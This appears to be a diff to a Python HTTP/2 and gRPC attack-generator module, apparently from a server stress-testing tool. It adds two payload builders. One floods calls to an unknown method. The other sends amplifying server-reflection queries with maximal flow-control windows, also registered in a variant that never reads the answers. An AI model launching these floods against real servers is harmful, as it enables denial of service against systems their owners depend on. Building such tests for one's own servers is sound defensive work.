@@ -226,6 +226,23 @@ def unread_answers(message: bytes) -> Parts:
     )
 
 
+def refused_calls(_: bytes) -> Parts:
+    """Calls of an unknown method, as short as they can be."""
+    blocks = Blocks()
+    return _numbered(lambda number: frame(HEADERS, END_HEADERS, number, blocks.call("/none")))
+
+
+def reflection(_: bytes) -> Parts:
+    """Questions that are much shorter than their answers, with windows that admit everything."""
+    windows = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 2**31 - 1))
+    windows += frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535))
+    path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
+    symbol = b"inference.ModelInferRequest"
+    question = _prefixed(b"\x22" + bytes([len(symbol)]) + symbol)
+    first = windows + frame(HEADERS, END_HEADERS, 1, Blocks().call(path))
+    return _same(first, frame(DATA, 0, 1, question * (16_000 // len(question))))
+
+
 def large_heads(_: bytes) -> Parts:
     """Open calls with heads just below the limits, without messages."""
     blocks = Blocks()
@@ -273,10 +290,13 @@ ATTACKS: dict[str, Callable[[bytes], Parts]] = {
     "HPACK Huffman texts": huffman,
     "uploads to refused calls": uploads_to_refused_calls,
     "large heads of open calls": large_heads,
+    "calls of an unknown method": refused_calls,
+    "reflection": reflection,
 }
 """By name."""
 UNREAD_ATTACKS: dict[str, Callable[[bytes], Parts]] = {
     "answers not read (CVE-2019-9517)": unread_answers,
     "PING flood, answers not read": ping_flood,
+    "reflection, answers not read": reflection,
 }
 """Of clients that read nothing."""
